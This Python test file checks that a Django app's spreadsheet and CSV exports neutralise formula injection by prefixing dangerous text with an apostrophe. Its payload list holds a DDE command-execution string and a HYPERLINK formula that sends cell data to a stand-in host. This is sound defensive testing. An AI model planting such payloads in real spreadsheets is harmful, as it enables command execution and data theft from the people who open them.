"""No spreadsheet the product writes carries a live formula from someone's text.

Hostile text goes into every free-text field of every model (what residents, partners,
imports and staff can type), then every export is downloaded: the summary workbook and
every admin export (every ModelAdmin with import-export, every format).
"""

import csv
import io
import itertools

import openpyxl
import pytest
from django.apps import apps
from django.contrib import admin
from django.db import models
from django.urls import reverse
from import_export.admin import ExportMixin

from core.spreadsheets import FORMULA_STARTS, formula_cells, is_dangerous, neutralise
from tests.summary.factories import build_march_2026

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    " =1+1",
]
APPS = ("residents", "partners", "activities")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_text_is_written_behind_an_apostrophe(payload):
    assert is_dangerous(payload)
    assert neutralise(payload) == "'" + payload
    assert not is_dangerous(neutralise(payload))


@pytest.mark.parametrize("value", ["王秀英", "101", "1号楼", "", None, 3, 2.5, "a=b"])
def test_harmless_values_pass_unchanged(value):
    assert neutralise(value) == value


def _text_fields(model):
    for field in model._meta.get_fields():
        if (
            isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and field.concrete
            and not field.primary_key
        ):
            yield field


def _poison_everything() -> int:
    """Write a payload into every free-text field of every row; return how many cells."""
    payloads = itertools.cycle(PAYLOADS)
    written = 0
    for label in APPS:
        for model in apps.get_app_config(label).get_models():
            if model.__name__.startswith("Historical"):
                continue
            fields = list(_text_fields(model))
            for pk in model._default_manager.values_list("pk", flat=True):
                values = {}
                for field in fields:
                    # The row's id kept whole, so that unique fields stay unique.
                    payload, key = next(payloads), str(pk)
                    if field.max_length:
                        payload = payload[: field.max_length - len(key)]
                    value = f"{payload}{key}"
                    values[field.name] = value
                model._default_manager.filter(pk=pk).update(**values)
                written += len(values)
    return written


def _export_admins():
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ExportMixin):
            yield model, model_admin


def _download_admin_exports(client):
    """Every admin export in every format, with every column chosen."""
    files = []
    for model, _model_admin in _export_admins():
        opts = model._meta
        url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
        page = client.get(url)
        assert page.status_code == 200, url
        form = page.context["form"]
        formats = [value for value, _label in form.fields["format"].choices if value != ""]
        for fmt in formats:
            data = {"format": fmt, "resource": "0"}
            for name in form.fields:
                if name not in ("format", "resource"):
                    data[name] = "on"
            response = client.post(url, data)
            assert response.status_code == 200, (url, fmt)
            files.append((url, response["Content-Type"], response.content))
    return files


def _formula_cells_in(content_type: str, content: bytes) -> tuple[list[str], int]:
    if "spreadsheetml" in content_type:
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [c.value for s in workbook.worksheets for r in s.iter_rows() for c in r]
        return formula_cells(workbook), len(cells)
    text = content.decode("utf-8-sig")
    cells = [value for row in csv.reader(io.StringIO(text)) for value in row]
    return [value for value in cells if value.startswith(FORMULA_STARTS)], len(cells)


def test_no_export_carries_a_formula_from_hostile_text(staff_client, settings):
    build_march_2026()
    settings.COMMUNITY_NAME = "=1+1社区"
    assert _poison_everything() > 100

    exports = _download_admin_exports(staff_client)
    summary = staff_client.get("/summary/2026/03/export.xlsx")
    assert summary.status_code == 200
    exports.append(("summary", summary["Content-Type"], summary.content))

    assert len(exports) >= 3  # the summary, and residents and households in two formats
    for name, content_type, content in exports:
        found, total = _formula_cells_in(content_type, content)
        assert total > 0, name
        assert found == [], (name, found[:5])
    # The hostile text is there, as text.
    workbook = openpyxl.load_workbook(io.BytesIO(summary.content))
    values = [c.value for s in workbook.worksheets for r in s.iter_rows() for c in r]
    assert any(isinstance(v, str) and v.startswith("'=") for v in values)


def test_the_summary_workbook_neutralises_text_cells(settings):
    from summary.export import neutralise_workbook  # the workbook is cleaned before saving

    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    wb.active["A2"] = 5
    neutralise_workbook(wb)
    assert wb.active["A1"].value == "'=1+1"
    assert wb.active["A1"].data_type == "s"
    assert wb.active["A2"].value == 5
